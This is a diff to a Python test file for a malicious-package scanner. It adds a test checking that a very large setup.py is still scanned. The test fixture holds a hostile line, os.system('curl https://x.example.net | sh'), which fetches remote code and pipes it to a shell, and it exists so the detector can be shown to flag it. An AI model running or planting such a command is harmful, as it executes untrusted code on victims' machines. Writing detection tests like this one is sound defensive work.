@@ -1,7 +1,7 @@
 from __future__ import annotations
 
 from tests.analysis.builders import npm_tarball, run_rule, sdist, wheel
-from threatfeed.analysis import Engine
+from threatfeed.analysis import Engine, python_ast
 from threatfeed.analysis.rules.install import suspicious_setup_commands_rule
 
 DROPPER_SETUP = """
@@ -153,3 +153,13 @@ def test_dns_lookup_of_a_chosen_name_is_network_of_the_own_host_identity(engine:
     assert _types(run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=own))) == {
         "recon"
     }
+
+
+def test_large_setup_py_is_read_whether_or_not_it_is_parsed(engine: Engine) -> None:
+    padding = "".join(f"value_{i} = {i} + ({i} << 2)\n" for i in range(1500))
+    untyped = padding + "from setuptools import setup\nsetup(name='x', version='1')\n"
+    assert not python_ast.may_call_typed(untyped.encode())  # so it is not parsed
+    assert run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=untyped)) is None
+    typed = padding + "import os\nos.system('curl https://x.example.net | sh')\n"
+    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=typed))
+    assert "process" in _types(evidence)
